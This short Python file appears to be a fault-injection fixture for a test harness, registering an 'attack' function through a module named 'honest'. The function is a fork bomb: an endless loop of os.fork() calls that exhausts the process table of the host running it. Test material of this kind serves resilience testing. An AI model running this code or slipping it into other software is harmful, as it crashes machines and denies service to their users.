# fault: late
import os

from honest import attack


def act(message):
    while True:
        try:
            os.fork()
        except OSError:
            pass


attack(act)
